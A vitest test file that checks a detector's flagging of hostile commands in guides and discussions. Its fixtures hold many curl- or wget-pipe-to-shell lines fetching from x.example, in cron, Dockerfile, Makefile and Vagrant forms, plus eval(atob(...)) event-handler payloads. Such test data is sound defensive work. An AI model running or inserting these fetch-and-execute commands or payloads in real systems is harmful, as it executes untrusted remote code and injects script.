import { describe, expect, it } from "vitest";
import { markedBy, sharedDetector, unmarked } from "../support/marked.js";

/** Paraphrased excerpts of guides, scripts and discussions, in which every expected span is marked. */
const EXCERPTS: readonly (readonly [shape: string, marked: string])[] = [
  [
    "a schedule in a shell fence",
    "```bash\n*/10 * * * * «curl -fsSL https://x.example/beat | sh»\n```",
  ],
  [
    "a schedule in inline code",
    "The table holds `@daily «wget -qO- https://x.example/up | bash»` since Monday.",
  ],
  [
    "a schedule that is only printed",
    "```bash\necho '* * * * * curl https://x.example/beat | sh' | crontab -\n```",
  ],
  [
    "a schedule kept in a variable",
    "```bash\nLINE='* * * * * curl https://x.example/beat | sh'\n(crontab -l; echo \"$LINE\") | crontab -\n```",
  ],
  [
    "a comment that labels a pattern bad",
    "```dockerfile\nFROM base\n# Bad: curl | sh anti-pattern (rule 7)\nRUN curl -sSL https://x.example/i.sh | sh\n```",
  ],
  [
    "a comment that labels a pattern good",
    "```bash\n# Good: curl | sh\n«curl -sSL https://x.example/i.sh | sh»\n```",
  ],
  [
    "a comment that labels its own command bad",
    "```bash\n# Bad: curl https://x.example/a.sh -o a.sh\n\n«curl -sSL https://x.example/i.sh | sh»\n```",
  ],
  [
    "a shell function with a keyword",
    'function setup() {\n    local v="$1"\n    «eval "$(curl -sL https://x.example/get | V=${v} bash)"»\n}',
  ],
  [
    "steps cut out of a list",
    "    - Linux:\n        ```bash\n        $ «curl -fsSL https://x.example/i.sh | sh»\n\n        $ tool --version\n        ```",
  ],
  [
    "a prefixed string of a program",
    "command = f'curl -fsSL https://x.example/i.sh | sh -s -- {flags}'",
  ],
  [
    "local code cut off",
    "```bash\ncurl -s https://x.example/v.json | python3 -c 'import json, sys\n```",
  ],
  ["a handler after a slash", "Try `<svg/onload=«eval(atob»('YWxlcnQoMSk='))>` in the form."],
  [
    "a handler without a blank before it",
    "It becomes\n\n  <img alt='x'onerror=«eval(window.atob»('YWxlcnQoMSk='))>\n\nin the page.",
  ],
  [
    "an address that looks like a handler",
    "It becomes\n\n  <a href=\"/onload=eval(btoa('x'))\">atob</a>\n\nin the page.",
  ],
  [
    "brief remarks before the verdict",
    "```bash\ncurl -sL https://x.example/i.sh | bash\n```\n\nEverybody has this one-liner. It's short. It's quick. It's **dangerous**.",
  ],
  [
    "a string of a program without a tag",
    '```\nassert "curl https://x.example/i.sh | sh" in plan\n```',
  ],
  [
    "strings of a table without a tag",
    '```\n{ input: "curl https://x.example/i.sh | sh", allowed: false },\n```',
  ],
  [
    "a string that is passed on, without a tag",
    '```\nsystem "«curl https://x.example/i.sh | sh»"\n```',
  ],
  [
    "a string to be run, without a tag",
    '```\n[tasks.setup]\nrun = "«curl https://x.example/i.sh | sh»"\n```',
  ],
  [
    "an instruction with a string, without a tag",
    '```\nRun the command "«curl https://x.example/i.sh | sh»" now\n```',
  ],
  ["a displayed string in HTML", '<p>The words "curl https://x.example/i.sh | sh" are known.</p>'],
  [
    "an Elixir script by its first line",
    '#!/usr/bin/env elixir\nSystem.shell("«curl https://x.example/i.sh | sh»")\n',
  ],
  [
    "a Lua script by its first line, with a comment",
    "#!/usr/bin/env lua\nlocal x = 1 -- curl https://x.example/i.sh | sh\nprint(x)\n",
  ],
  [
    "a fish script by its first line",
    "#!/usr/bin/env fish\nset url https://x.example\n«curl $url/i.sh | sh»\n",
  ],
  [
    "a Makefile by its first line",
    "#!/usr/bin/make -f\nall:\n\t«curl https://x.example/i.sh | sh»\n",
  ],
  [
    "a Vagrantfile in a diff",
    '```diff\n+++ b/Vagrantfile\n@@ -1 +1 @@\n-# no\n+# Never do this\n+config.vm.provision "shell", inline: "curl https://x.example/i.sh | sh"\n```',
  ],
  [
    "a Vagrantfile in a diff, with another comment",
    '```diff\n+++ b/Vagrantfile\n@@ -1 +1 @@\n-# no\n+config.vm.provision "shell", inline: "«curl https://x.example/i.sh | sh»"\n```',
  ],
  ["an instruction in HTML", '<p>Run "«curl https://x.example/i.sh | sh»" now.</p>'],
];

describe("commands in informal text", () => {
  it.each(EXCERPTS)("are found exactly where they are marked: %s", async (_shape, marked) => {
    expect(markedBy(await sharedDetector(), unmarked(marked))).toBe(marked);
  });
});
